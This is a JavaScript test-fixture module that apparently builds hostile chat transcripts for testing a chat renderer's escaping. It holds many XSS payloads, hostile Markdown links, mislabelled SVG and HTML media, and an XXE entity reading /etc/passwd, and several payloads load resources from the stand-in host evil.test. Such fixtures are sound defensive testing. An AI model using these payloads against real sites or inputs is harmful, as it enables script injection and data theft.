// SPDX-License-Identifier: Apache-2.0
// Texts that were made to become something else in a web page, and a chat that holds one in every place for a text.
import { chat } from "./chats.mjs";

const base64 = (text) => Buffer.from(text, "utf8").toString("base64");

/** Each calls alert(…) or asks for http://evil.test/… where it succeeds. */
export const attacks = [
  // elements
  "<script>alert(1)</script>",
  "<ScRiPt src=http://evil.test/a.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<img src="http://evil.test/i.png">',
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=http://evil.test/o></object><embed src=http://evil.test/e>",
  "<link rel=stylesheet href=http://evil.test/s.css>",
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  "<base href=http://evil.test/>",
  "<form action=http://evil.test/><input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="http://evil.test/" target=_blank>free</a>',
  "<plaintext>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<textarea><select><option>",
  // out of what stands around the text
  "</style><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</pre></code></summary></details></article></main><script>alert(1)</script>",
  "</option></select></label></nav><img src=x onerror=alert(1)>",
  "</bdi></b></td></tr></table><script>alert(1)</script>",
  "<!--",
  "-->",
  "<!--><script>alert(1)</script>",
  "<![CDATA[",
  "]]>",
  "<?php ?>",
  "<!DOCTYPE x>",
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  "` onmouseover=`alert(1)`",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus tabindex=1 onfocus=alert(1) style="position:fixed"',
  'x" class="own" hidden data-own="0',
  "m0",
  "conversation",
  "search",
  "tools",
  "__proto__",
  "constructor",
  // addresses
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  `data:text/html;base64,${base64("<script>alert(1)</script>")}`,
  `data:image/svg+xml;base64,${base64("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")}`,
  "http://evil.test/x.png",
  "//evil.test/x.png",
  "file:///etc/passwd",
  "blob:null/1",
  "#m0",
  // entities, styles, templates
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img&#x3e; &lt &amp &nbsp;&NewLine;&colon;&lpar; &#0; &#xD800;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript\\x3e %3Cscript%3E",
  "expression(alert(1)) url(http://evil.test/c) @import 'http://evil.test/i.css';",
  "*{background:url(http://evil.test/b)} </style >",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)} [[alert(1)]]",
  "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= 'unsafe-inline'",
  // characters
  "nul \0 in it",
  "\0<script>alert(1)</script>",
  "<scr\0ipt>alert(1)</script>",
  "bell \x07 backspace \b escape \x1b[31m delete \x7f c1 \x85 \x9b",
  "tab\tline\nreturn\rboth\r\nend",
  "\n\nfirst lines empty",
  "\r\n\r",
  " \t blanks \n ",
  "override \u202Egnp.exe\u202C isolate \u2066x\u2069 marks \u200E\u200F\u061C separators \u2028\u2029",
  "\u202E",
  "lone \uD800 high",
  "lone \uDC00 low",
  "\uDC00\uD800 swapped",
  "\uFEFF mark \uFFFE not \uFFFF characters \uFDD0",
  "fullwidth ＜script＞alert(1)＜/script＞ ‹img› ʺ ʹ",
  "Z\u0310\u0311\u0312\u0313\u0314 zero\u200Bwidth\u200Djoined \u{E0041}\u{10FFFF}",
  "\u05E9\u05DC\u05D5\u05DD <b onclick=alert(1)> \u0645\u0631\u062D\u0628\u0627",
  "w".repeat(5000),
  "<".repeat(500),
  "&".repeat(500),
  '"'.repeat(500),
  "[".repeat(300),
  "<b>".repeat(300),
];

/** Markdown that means something: block and inline constructs with hostile targets, titles and content. */
export const markdowns = [
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](JAVASCRIPT&colon;alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](vbscript:x 'title\" onclick=\"alert(1)')",
  "[x](data:text/html,<script>alert(1)</script>)",
  '[x](http://evil.test/ "\\"><script>alert(1)</script>")',
  "[x][r]\n\n[r]: javascript:alert(1) '<img src=x onerror=alert(1)>'",
  "![x](http://evil.test/i.png)",
  '![x](x" onerror="alert(1))',
  "![<img src=x onerror=alert(1)>](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[![a](http://evil.test/a.png)](http://evil.test/b)",
  "<http://evil.test/>",
  "<javascript:alert(1)>",
  "<a@evil.test>",
  "<script>alert(1)</script>",
  "text <b onclick=alert(1)>bold</b> <img src=x onerror=alert(1)>",
  "<div>\n<script>\nalert(1)\n</script>\n</div>",
  "<!-- comment --> <?x y?> <![CDATA[ z ]]> <!X y>",
  "<style>*{display:none}</style>",
  "<pre>\n<iframe src=http://evil.test/>\n</pre>",
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
  "~~~</p><img src=x onerror=alert(1)>\nx\n~~~",
  "    </pre><script>alert(1)</script>",
  "`</code><script>alert(1)</script>`",
  "`` ` <b> ``",
  "# <img src=x onerror=alert(1)>\n\n## a\n\n### b\n\n#### c\n\n##### d\n\n###### e\n\nf\n=\n\ng\n-",
  "> <script>alert(1)</script>\n> > deeper",
  "* <script>alert(1)</script>\n  1. <img src=x onerror=alert(1)>\n     - c",
  "0. zero\n1. one",
  "999999999. far",
  "- a\n\n- loose",
  "*a **b*** _c_ __d__ ***e***",
  "a  \nb\\\nc\nd",
  "---\n\n***",
  "&lt;script&gt; &#0; &#xFFFD; &#x202E; &bogus; &amp;amp;",
  "\\<script> \\* \\[ \\` \\\\",
  "[x]: http://evil.test/\n\nonly a reference",
  "| a | b |\n|---|---|\n| <script> | x |",
  "**\u202Ebold\u202C** *\u0007*",
  "> ".repeat(60) + "deep",
  "*a".repeat(60),
  "[".repeat(100) + "x" + "](y)".repeat(100),
  "- ".repeat(60) + "deep",
  "![".repeat(40) + "]()".repeat(40),
  "[x](#m0) [y](#conversation)",
  '[x]("http://evil.test/" onclick=alert(1))',
  "\tcode <b>\n\n\ttab",
  "a\r\nb\r\n\r\n* c\r\n* d\re",
];

const files = [
  [
    "image/svg+xml",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script><image href='http://evil.test/i.png'/><a href='javascript:alert(3)'><text>x</text></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='http://evil.test/f'/></body></foreignObject><style>@import 'http://evil.test/s.css';</style></svg>",
  ],
  [
    "image/svg+xml;charset=utf-8",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
  ],
  ["IMAGE/PNG", "<script>alert(1)</script>"],
  ["image/png", "<html><script>alert(1)</script></html>"],
  ["text/html", "<script>alert(1)</script>"],
  ["application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"],
  ['image/png" onerror="alert(1)', "x"],
  ["image/png,<script>alert(1)</script>", "x"],
  ["text/html;image/png", "<script>alert(1)</script>"],
  ["application/pdf", "%PDF-1.4"],
  ["image/svg+xml ", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"],
];
/** Data that says that it is something else, or runs. */
export const mediaChat = () =>
  chat({
    history: files.flatMap(([mimetype, content]) =>
      ["image", "audio", "binary"].map((type) => ({
        role: "user",
        items: [{ type, mimetype, data: base64(content), uri: "http://evil.test/u" }],
      })),
    ),
  });

/** What a chat has of an attack in every place, each told by what stands before it. from: the number of its messages. */
const attacked = (attack, from) => {
  const at = (place) => `${place}~${attack}`;
  const json = (place) => ({
    [at(`${place}-name`)]: at(place),
    deep: [{ [attack]: [attack, 1, null] }],
    [attack]: attack,
  });
  const extras = (place) => [
    { name: at(`${place}-extra`), value: json(`${place}-extra-value`) },
    { from: "semantic-kernel", name: at(`${place}-foreign`), value: at(`${place}-foreign-value`) },
  ];
  const unknown = (place) => ({ [at(`${place}-unknown`)]: json(`${place}-unknown-value`) });
  const besides = (place) => ({
    model: at(`${place}-model`),
    mimetype: at(`${place}-mimetype`),
    metadata: json(`${place}-metadata`),
    extras: extras(place),
    ...unknown(place),
  });
  const items = (place) => [
    { type: "text", text: attack, ...besides(`${place}-text`) },
    { type: "text", text: at(`${place}-second`) },
    {
      type: "call",
      id: at(`${place}-call-id`),
      plugin: at(`${place}-plugin`),
      function: at(`${place}-function`),
      arguments: json(`${place}-arguments`),
      exception: at(`${place}-exception`),
      ...besides(`${place}-call`),
    },
    {
      type: "call",
      function: at(`${place}-bare`),
      arguments: at(`${place}-bare-arguments`),
      exception: json(`${place}-exception-object`),
    },
    {
      type: "result",
      id: at(`${place}-result-id`),
      plugin: at(`${place}-result-plugin`),
      function: at(`${place}-result-function`),
      result: json(`${place}-result`),
      ...besides(`${place}-result`),
    },
    { type: "result", function: at(`${place}-text-result`), result: at(`${place}-result-text`) },
    { type: "image", uri: at(`${place}-image-uri`), ...besides(`${place}-image`) },
    { type: "audio", uri: attack, mimetype: attack, data: base64(attack) },
    { type: "binary", uri: at(`${place}-binary-uri`), mimetype: at(`${place}-binary-mimetype`), data: base64(attack) },
    {
      type: "annotation",
      kind: at(`${place}-kind`),
      label: at(`${place}-label`),
      reference: at(`${place}-reference`),
      title: at(`${place}-title`),
      start: 1,
      end: 2,
      ...besides(`${place}-annotation`),
    },
    { type: "file", file: at(`${place}-file`), tools: [at(`${place}-tool`)], ...besides(`${place}-file`) },
    {
      type: "reasoning",
      text: at(`${place}-reasoning`),
      signature: at(`${place}-signature`),
      ...besides(`${place}-reasoning`),
    },
    { type: "action", text: at(`${place}-action`), ...besides(`${place}-action`) },
    { type: "opaque", kind: at(`${place}-opaque`), raw: json(`${place}-raw`), ...besides(`${place}-opaque`) },
    { type: at(`${place}-unheard`), beam: json(`${place}-beam`) },
  ];
  const message = (place, more = []) => ({
    role: at(`${place}-role`),
    name: at(`${place}-author`),
    items: [...items(place), ...more],
    ...besides(place),
    id: at(`${place}-id`),
    time: at(`${place}-time`),
  });
  const participants = [
    { id: at("p-id"), name: at("p-name"), type: at("p-type"), extras: extras("p"), ...unknown("p") },
    { name: attack },
  ];
  const channels = (place, first, count) => [
    {
      channelkey: at(`${place}-key`),
      channeltype: at(`${place}-type`),
      statekind: "text",
      channelstate: at(`${place}-state`),
      synced: 1,
      pending: [0],
      extras: extras(place),
      ...unknown(place),
    },
    {
      channelkey: attack,
      channeltype: attack,
      statekind: "messages",
      channelstate: [message(`${place}-own`), [first, count]],
      synced: first + count,
    },
    { channelkey: at(`${place}-bytes`), statekind: "bytes", channelstate: base64(attack) },
  ];
  const values = [
    { name: at("v-name"), value: json("v-value") },
    { name: attack, value: at("v-text") },
    { name: at("v-data"), mediatype: at("v-media"), base64: base64(attack) },
  ];
  const inner = {
    history: [message("inner")],
    participants,
    channels: channels("inner-c", 0, 1),
    values,
    extras: extras("inner"),
    ...unknown("inner"),
  };
  const history = [
    { role: attack, name: attack, items: [{ type: "text", text: attack }] },
    message("m", [{ type: "message", message: message("nested"), ...besides("outer") }]),
    {
      role: "assistant",
      items: [
        {
          type: "call",
          id: attack,
          plugin: at("pair-plugin"),
          function: at("pair-function"),
          arguments: json("pair-arguments"),
        },
      ],
    },
    {
      role: "tool",
      items: [
        {
          type: "result",
          id: attack,
          plugin: at("pair-plugin"),
          function: at("pair-function"),
          result: json("pair-result"),
        },
      ],
    },
  ];
  return {
    history,
    participants,
    values,
    extras: extras("s"),
    unknown: unknown("s"),
    channels: [
      ...channels("c", from, history.length),
      { channelkey: at("chat-key"), channeltype: at("chat-type"), statekind: "chat", channelstate: inner },
    ],
  };
};

/** A chat with each of these attacks in every place. */
export const attackedChat = (list) => {
  const whole = { history: [], participants: [], channels: [], values: [], extras: [] };
  const all = {};
  for (const attack of list) {
    const { unknown, ...parts } = attacked(attack, whole.history.length);
    for (const name of Object.keys(whole)) whole[name].push(...parts[name]);
    Object.assign(all, unknown);
  }
  return chat({ ...whole, ...all });
};

/** Each attack in every construct of Markdown that takes a text, a message each. */
export const markdownChat = (list) => {
  const wraps = [
    (t) => t,
    (t) => `*${t}*`,
    (t) => `**${t}**`,
    (t) => `[${t}](y)`,
    (t) => `[y](${t})`,
    (t) => `[y](<${t}>)`,
    (t) => `[y](z "${t}")`,
    (t) => `![${t}](y)`,
    (t) => `![y](${t} '${t}')`,
    (t) => `\`${t}\``,
    (t) => "```" + `${t}\n${t}\n` + "```",
    (t) => `~~~ ${t}\nx\n~~~`,
    (t) => `    ${t}`,
    (t) => `# ${t}`,
    (t) => `> ${t}`,
    (t) => `- ${t}`,
    (t) => `1. ${t}`,
    (t) => `<${t}>`,
    (t) => `[r]: ${t} "${t}"\n\n[r]`,
    (t) => `<div ${t}>\n${t}\n</div>`,
  ];
  const texts = list.flatMap((attack) => wraps.map((wrap) => wrap(attack)));
  return chat({ history: texts.map((text) => ({ role: "user", items: [{ type: "text", text }] })) });
};
